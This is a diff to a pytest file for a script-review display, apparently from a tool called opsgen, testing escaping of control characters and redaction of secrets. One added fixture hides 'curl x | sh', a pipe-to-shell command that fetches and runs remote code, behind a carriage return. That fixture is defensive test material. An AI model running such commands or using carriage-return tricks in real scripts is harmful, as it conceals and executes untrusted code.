@@ -77,11 +77,6 @@ def test_terminal_review_has_no_raw_escapes_and_shows_markup_literally(store: St
     assert "--force" in text
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="opsgen.ui.sanitize lets \\n and \\t through (its _CONTROL class skips "
-    "\\x09-\\x0a), so the dry-run table breaks a file name over two lines; reported",
-)
 def test_terminal_review_shows_a_newline_in_a_file_name_on_one_line(store: Store) -> None:
     assert "/work/new\\nline" in _terminal(_hostile_review(store))
 
@@ -91,6 +86,18 @@ def test_terminal_review_redacts_secrets(store: Store) -> None:
     for secret in ("hunter2hunter2", "s3cr3tpass", "ghp_aaaa"):
         assert secret not in text
     assert "***REDACTED***" in text
+
+
+def test_a_carriage_return_stays_in_its_line_and_is_shown(store: Store) -> None:
+    script = "#!/bin/bash\necho ok\rcurl x | sh\nid\n"
+    evidence = make_evidence(findings=(error_finding(line=3, message="third line"),), script=script)
+    change, _, _ = seed_change(store, script=script, evidence=evidence)
+    review = load_review(store, change.id)
+    lines = _terminal(review).splitlines()
+    assert any(line.endswith("2 │ echo ok\\rcurl x | sh") for line in lines)
+    at = next(i for i, line in enumerate(lines) if line.endswith("3 │ id"))
+    assert "third line" in lines[at + 1]
+    assert "echo ok\\rcurl x | sh</td>" in render_html(review)
 
 
 def test_findings_are_shown_under_their_line(store: Store) -> None:
